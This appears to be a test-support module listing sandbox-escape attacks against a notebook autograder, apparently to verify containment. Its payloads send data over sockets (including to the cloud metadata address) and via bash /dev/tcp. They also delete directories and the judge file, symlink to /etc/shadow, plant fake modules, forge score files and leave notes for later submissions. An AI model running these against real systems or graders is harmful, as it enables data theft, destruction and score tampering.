"""Attacks on what lies outside: the network, files, modules, and who comes next."""

from tests.support.attacks.attack import TRY, Attack

OUTSIDE = (
    Attack(
        "tcp, udp and unix sockets",
        (19,),
        added=(
            TRY + "import socket, urllib.request\n"
            "def tcp(host, port):\n"
            "    with socket.create_connection((host, port), 1) as sock: sock.sendall(b'LOOT')\n"
            "def udp(host, port):\n"
            "    socket.socket(type=socket.SOCK_DGRAM).sendto(b'LOOT', (host, port))\n"
            "def unix(path):\n"
            "    sock = socket.socket(socket.AF_UNIX); sock.connect(path); sock.sendall(b'LOOT')\n"
            "for host in ('127.0.0.1', '::1', 'localhost', '10.0.2.2', '169.254.169.254'):\n"
            "    attempt(f'tcp {host}', lambda: tcp(host, @TCP@))\n"
            "    attempt(f'udp {host}', lambda: udp(host, @UDP@))\n"
            "attempt('unix', lambda: unix('@UNIX@'))\n"
            "attempt('abstract', lambda: unix('\\0@ABSTRACT@'))\n"
            "attempt('dns', lambda: socket.getaddrinfo('loot.example.org', 80))\n"
            "attempt('http', lambda: urllib.request.urlopen('http://127.0.0.1:@TCP@', timeout=1))",
        ),
    ),
    Attack(
        "raw sockets, netlink and the shell's programs",
        (19,),
        added=(
            TRY + "import socket, subprocess\n"
            "for family in (2, 10, 16, 17, 38, 40):\n"
            "    for kind in (1, 2, 3):\n"
            "        attempt(f'socket {family} {kind}', lambda: socket.socket(family, kind))\n"
            "for kind, port in (('tcp', @TCP@), ('udp', @UDP@)):\n"
            "    command = f'echo > /dev/{kind}/127.0.0.1/{port}'\n"
            "    attempt(kind, lambda: subprocess.run(['bash', '-c', command], check=True))",
        ),
    ),
    Attack(
        "writes and deletes outside",
        (10, 25, 21),
        added=(
            "import os, shutil, pathlib\n"
            "for place in ('@COURSE@', '@HOME@', '@ROOT@/tests', '..', '../..', '/', '/usr',\n"
            "              '/packages', '/packages/autograder', '/etc', '/var/tmp', '/run'):\n"
            "    try: open(place + '/breach', 'w').write('x'); print('BREACH', place)\n"
            "    except OSError: pass\n"
            "for place in ('@COURSE@', '@HOME@'): shutil.rmtree(place, ignore_errors=True)\n"
            "judge = pathlib.Path('/packages/autograder/checks/exam/judge.py')\n"
            "try: judge.unlink(); print('BREACH')\n"
            "except OSError: pass",
        ),
    ),
    Attack(
        "files that name places outside",
        (20, 21),
        added=(
            "import os\n"
            "for name, to in (('a', '@COURSE@/secret.txt'), ('b', '/proc/1/root/etc/shadow'),\n"
            "                 ('c', '@HOME@/secret.txt'), ('d', '/proc/self/cwd/../../secret')):\n"
            "    os.symlink(to, name)\n"
            "    try: print('BREACH', open(name).read())\n"
            "    except OSError: pass\n"
            "os.mkfifo('pipe')\n"
            "os.symlink('/dev/zero', 'checks.json~')",
        ),
    ),
    Attack(
        "shadow modules beside the notebook",
        (23,),
        files={
            f"{name}.py": b"def __getattr__(name): return lambda *a, **k: True\n"
            b"try: open('@COURSE@/breach', 'w')\nexcept OSError: pass\n"
            for name in ("numpy", "autograder", "companion", "torch", "sitecustomize", "solutions")
        },
        added=("import sys\nsys.path.insert(0, '.')\nsys.modules.pop('numpy', None)",),
    ),
    Attack(
        "checks.json is forged and results are written",
        (11, 23, 31),
        files={"results.json": b'{"score": 100}'},
        added=(
            "import json\n"
            "for name in ('checks.json', 'results.json', '/autograder/results/results.json',\n"
            "             '@COURSE@/results.json',\n"
            "             '02_dot_product_self_attention.verdicts.json'):\n"
            "    try: json.dump({'score': 100, 'cells': []}, open(name, 'w'))\n"
            "    except OSError: pass",
        ),
    ),
    Attack(
        "every descriptor is written to",
        (11, 12, 4),
        added=(
            "import os\n"
            "for fd in range(64):\n"
            "    try: os.write(fd, b'{\"score\": 100}\\n' * 9)\n"
            "    except OSError: pass",
        ),
    ),
    Attack(
        "a note for the next submission",
        (25, 29),
        added=(
            "import os, glob, site, tempfile\n"
            "places = ['/tmp', '/dev/shm', '/student', '/var/tmp', '/run', os.getcwd(),\n"
            "          tempfile.gettempdir(), *glob.glob('/packages/*'), *site.getsitepackages()]\n"
            "for place in places:\n"
            "    try: open(place + '/note', 'w').write('LOOT')\n"
            "    except OSError: pass\n"
            "import numpy, companion\n"
            "numpy.note = companion.note = 'LOOT'\n"
            "companion.softmax = lambda *a, **k: 7\n"
            "os.environ['NOTE'] = 'LOOT'",
        ),
    ),
    Attack(
        "side channels of the kernel",
        (29,),
        added=(
            TRY + "import ctypes, fcntl, os, mmap\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "def must(n):\n    if n < 0: raise OSError\n    return n\n"
            "attempt('keyring', lambda: must(libc.syscall(248, b'user', b'x', b'LOOT', 4, -3)))\n"
            "attempt('shm', lambda: must(libc.shmget(77, 4096, 0o1666)))\n"
            "attempt('msg', lambda: must(libc.msgget(77, 0o1666)))\n"
            "room = ctypes.create_string_buffer(120)\n"
            "attempt('io_uring', lambda: must(libc.syscall(425, 8, room)))\n"
            "attempt('memfd', lambda: os.memfd_create('x'))\n"
            "attempt('lock', lambda: fcntl.flock(open(os.__file__), fcntl.LOCK_EX))\n"
            "attempt('inotify', lambda: must(libc.inotify_init()))\n"
            "attempt('unshare', lambda: must(libc.unshare(0x10000000)))\n"
            "attempt('mount', lambda: must(libc.mount(b'x', b'/tmp', b'tmpfs', 0, None)))\n"
            "attempt('handle', lambda: must(libc.syscall(304, -100, 0, 0)))",
        ),
    ),
)
